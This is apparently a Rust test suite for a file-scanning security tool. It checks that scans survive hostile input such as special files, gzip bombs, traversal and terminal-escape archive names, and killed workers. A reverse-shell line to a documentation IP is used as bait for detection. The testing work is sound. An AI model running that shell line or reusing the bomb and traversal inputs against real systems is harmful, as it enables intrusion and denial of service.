//! Hostile input is normal: a clear problem, the rest of the audit whole, nothing outside the store.

use crate::{audit, audit_input, doorward};
use std::fs;
use std::io::Write;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};

/// Shell text that the rules know, to see that the rest of an audit is whole.
const WITNESS: &str = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";

fn write(folder: &Path, name: &str, bytes: &[u8]) {
    fs::write(folder.join(name), bytes).unwrap();
}

fn has_witness(audited: &crate::Audited) -> bool {
    audited.json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|finding| finding["place"]["path"].as_str().unwrap().contains("witness.sh"))
}

#[test]
fn what_is_no_file_is_named_and_never_read() {
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path();
    write(at, "witness.sh", WITNESS.as_bytes());
    assert!(Command::new("mkfifo").arg(at.join("pipe")).status().unwrap().success());
    let _socket = std::os::unix::net::UnixListener::bind(at.join("socket")).unwrap();
    symlink("/dev/zero", at.join("zero")).unwrap();
    symlink("loop", at.join("loop")).unwrap();
    symlink("..", at.join("up")).unwrap();
    symlink(at, at.join("self")).unwrap();
    let audited = audit(at, &[]);
    assert!(has_witness(&audited), "the rest is examined");
    assert_eq!(audited.problems().get("unreadable"), Some(&2), "FIFO and socket: {:?}", audited.problems());
    assert_eq!(audited.names().len(), 8, "links are places of their own, and nothing behind them: {:?}", audited.names());
}

#[test]
fn a_device_is_no_input() {
    for path in ["/dev/zero", "/dev/null"] {
        let ran = crate::run(&["audit", path]);
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{path}");
        assert!(ran.err.contains("device"), "{}", ran.err);
    }
    let ran = crate::run(&["audit", "/nonexistent/x"]);
    assert_eq!(ran.code, 2);
    assert!(ran.err.contains("/nonexistent/x"), "{}", ran.err);
}

#[test]
fn an_unreadable_file_is_said_and_fails_nothing_else() {
    // The superuser reads everything, so the audit runs as nobody, from a place that nobody may enter.
    let folder = tempfile::tempdir().unwrap();
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let program = folder.path().join("doorward");
    fs::copy(env!("CARGO_BIN_EXE_doorward"), &program).unwrap();
    let input = folder.path().join("input");
    fs::create_dir(&input).unwrap();
    fs::set_permissions(&input, fs::Permissions::from_mode(0o755)).unwrap();
    write(&input, "witness.sh", WITNESS.as_bytes());
    write(&input, "secret.sh", WITNESS.as_bytes());
    fs::create_dir(input.join("closed")).unwrap();
    for (name, mode) in [("witness.sh", 0o644), ("secret.sh", 0o000), ("closed", 0o000)] {
        fs::set_permissions(input.join(name), fs::Permissions::from_mode(mode)).unwrap();
    }
    let mut command = Command::new(&program);
    let superuser = fs::read_to_string("/proc/self/status").unwrap().lines().any(|line| line.starts_with("Uid:\t0\t"));
    if superuser {
        use std::os::unix::process::CommandExt;
        command.uid(65534).gid(65534);
    }
    let output = command.arg("audit").arg(&input).args(["--json", "-"]).current_dir("/").output().unwrap();
    let audited = crate::Audited::of(output);
    assert!(has_witness(&audited));
    assert_eq!(audited.problems().get("unreadable"), Some(&2), "{:?}", audited.problems());
    fs::set_permissions(input.join("closed"), fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn a_file_that_changes_while_it_is_read_is_said() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "witness.sh", WITNESS.as_bytes());
    let path = folder.path().join("shrinking");
    let file = fs::File::create(&path).unwrap();
    file.set_len(64 << 20).unwrap();
    let stop = AtomicBool::new(false);
    let audited = std::thread::scope(|scope| {
        scope.spawn(|| {
            // One byte shorter all the time for as long as the audit lasts: whenever it reads, the file changes.
            let mut len = 64 << 20;
            while !stop.load(Ordering::Relaxed) {
                len -= 1;
                file.set_len(len).unwrap();
            }
        });
        let output = doorward().arg("audit").arg(folder.path()).args(["--json", "-"]).output();
        stop.store(true, Ordering::Relaxed);
        output.unwrap()
    });
    let audited = crate::Audited::of(audited);
    assert_eq!(audited.problems().get("changed"), Some(&1), "{:?}", audited.problems());
    assert!(has_witness(&audited));
}

#[test]
fn a_worker_killed_in_mid_batch_changes_nothing() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "witness.sh", WITNESS.as_bytes());
    for index in 0..3_000 {
        let text = format!("#!/bin/sh\necho {index}\n").repeat(50);
        write(folder.path(), &format!("{index}.sh"), text.as_bytes());
    }
    let calm = audit(folder.path(), &[]);
    let mut command = doorward();
    let child = command
        .arg("audit")
        .arg(folder.path())
        .args(["--json", "-"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let parent = child.id();
    let done = AtomicBool::new(false);
    let (output, killed) = std::thread::scope(|scope| {
        let killer = scope.spawn(|| {
            let mut killed = 0;
            while killed < 3 && !done.load(Ordering::Relaxed) {
                killed += workers_of(parent).iter().filter(|pid| kill(**pid)).count();
            }
            killed
        });
        let output = child.wait_with_output().unwrap();
        done.store(true, Ordering::Relaxed);
        (output, killer.join().unwrap())
    });
    assert!(killed > 0, "no worker was met");
    let stormy = crate::Audited::of(output);
    if stormy.json["repeatable"] == true {
        assert_eq!(calm.bytes, stormy.bytes);
    } else {
        // Killed twice over the same content: that one is said to have crashed, and all others are whole.
        assert!(has_witness(&stormy) || stormy.problems().contains_key("crashed"));
    }
    assert_eq!(calm.names(), stormy.names());
}

/// Processes whose parent is this one and that do not run in it.
fn workers_of(parent: u32) -> Vec<u32> {
    let entries = fs::read_dir("/proc").unwrap().flatten();
    let pids = entries.filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok());
    pids.filter(|pid| {
        let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let behind_name = stat.rsplit_once(") ").map_or("", |(_, rest)| rest);
        let mut fields = behind_name.split(' ');
        fields.next() != Some("Z") && fields.next() == Some(parent.to_string().as_str())
    })
    .collect()
}

fn kill(pid: u32) -> bool {
    Command::new("kill").args(["-9", &pid.to_string()]).status().is_ok_and(|status| status.success())
}

#[test]
fn a_script_of_one_endless_line_is_read_to_its_end() {
    let mut script = b"x = '".to_vec();
    script.resize(200 << 20, b'a');
    script.extend_from_slice(b"'\n");
    script.extend_from_slice(WITNESS.as_bytes());
    let audited = audit_input(&script, &["--name", "long.sh"]);
    assert!(!audited.rules(&["alarm", "review"]).is_empty(), "what stands behind the line is found");
    assert_eq!(audited.json["repeatable"], true);
}

#[test]
fn deep_and_long_expressions_end_no_worker() {
    let nested = format!("x = {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let long = format!("x = 1{}\n", "+1".repeat(5_000_000));
    // Small enough to be followed, and naming what is worth following.
    let followed = format!("import subprocess, requests\nfetch('x', require('http'))\n{nested}");
    let spine = format!("import subprocess, requests\nfetch('x', require('http'))\nx = 1{}\n", "+1".repeat(100_000));
    let texts = [&nested, &long, &followed, &spine];
    for (name, text) in ["hostile.py", "hostile.js"].into_iter().flat_map(|name| texts.map(|text| (name, text))) {
        let audited = audit_input(text.as_bytes(), &["--name", name]);
        assert_eq!(audited.json["repeatable"], true, "{name}");
        assert!(!audited.problems().contains_key("crashed"), "{name}: {:?}", audited.problems());
    }
}

#[test]
fn a_bomb_is_cut_and_said() {
    // 1 GiB of zeros in gzip, twice over: about 1 KiB outside.
    let zeros = vec![0; 1 << 20];
    let bomb = flate_many(&zeros, 1024);
    let nested = flate(&bomb);
    for bytes in [&bomb, &nested] {
        let audited = audit_input(bytes, &[]);
        assert!(audited.problems().contains_key("limit"), "{:?}", audited.problems());
        assert_eq!((audited.verdict(), audited.code), ("incomplete", 3));
    }
}

fn flate(bytes: &[u8]) -> Vec<u8> {
    flate_many(bytes, 1)
}

fn flate_many(bytes: &[u8], times: usize) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..times {
        encoder.write_all(bytes).unwrap();
    }
    encoder.finish().unwrap()
}

#[test]
fn names_steer_no_terminal_and_lead_nowhere() {
    let names: [&[u8]; 7] = [
        b"../../escape.sh",
        b"/etc/absolute.sh",
        b"a\x1b[2Jb\n.sh",
        "\u{202e}hs.txt".as_bytes(),
        b"\xff\xfe.sh",
        b"c:\\x\\y.sh",
        b"nul\0led.sh",
    ];
    let mut tar = Vec::new();
    for name in names {
        tar.extend_from_slice(&member(name, WITNESS.as_bytes()));
    }
    tar.extend_from_slice(&[0; 1024]);
    let audited = audit_input(&tar, &[]);
    assert!(audited.problems().contains_key("deceptive"), "{:?}", audited.problems());
    let text = String::from_utf8(audited.bytes.clone()).unwrap();
    assert!(!text.chars().any(|c| c != '\n' && doorward_model::text::is_deceptive(c)), "everything is made visible");
    let terminal = {
        let folder = tempfile::tempdir().unwrap();
        write(folder.path(), "x.tar", &tar);
        crate::run(&["audit", folder.path().to_str().unwrap()])
    };
    assert!(!terminal.out.chars().any(|c| c != '\n' && doorward_model::text::is_deceptive(c)), "{}", terminal.out);
    assert!(!Path::new("/etc/absolute.sh").exists());
}

/// A member of a ustar archive; the name's bytes stand as they are.
fn member(name: &[u8], bytes: &[u8]) -> Vec<u8> {
    let mut header = [0_u8; 512];
    header[..name.len()].copy_from_slice(name);
    header[100..107].copy_from_slice(b"0000644");
    header[124..135].copy_from_slice(format!("{:011o}", bytes.len()).as_bytes());
    header[136..147].copy_from_slice(b"00000000000");
    header[148..156].fill(b' ');
    header[156] = b'0';
    header[257..265].copy_from_slice(b"ustar\x0000");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut member = header.to_vec();
    member.extend_from_slice(bytes);
    member.resize(member.len().next_multiple_of(512), 0);
    member
}

#[test]
fn a_million_empty_members_are_listed_within_bounds() {
    let mut tar = Vec::with_capacity(512 << 20);
    for index in 0..1_000_000 {
        tar.extend_from_slice(&member(format!("{index}").as_bytes(), b""));
    }
    tar.extend_from_slice(&member(b"witness.sh", WITNESS.as_bytes()));
    tar.extend_from_slice(&[0; 1024]);
    let audited = audit_input(&tar, &["--threads", "2"]);
    assert!(has_witness(&audited));
    assert_eq!(audited.json["coverage"]["files"], 1_000_002);
}

#[test]
fn nothing_is_written_outside_the_store() {
    let folder = tempfile::tempdir().unwrap();
    let spill = tempfile::tempdir().unwrap();
    write(folder.path(), "x.tar", &member(b"../../escape", WITNESS.as_bytes()));
    let before: Vec<_> = fs::read_dir(folder.path()).unwrap().flatten().map(|entry| entry.file_name()).collect();
    let output =
        doorward().arg("audit").arg(folder.path()).env("TMPDIR", spill.path()).current_dir(folder.path()).output().unwrap();
    assert!(output.status.code().is_some());
    let after: Vec<_> = fs::read_dir(folder.path()).unwrap().flatten().map(|entry| entry.file_name()).collect();
    assert_eq!(before, after);
    assert_eq!(fs::read_dir(spill.path()).unwrap().count(), 0, "the store's files have no names");
}
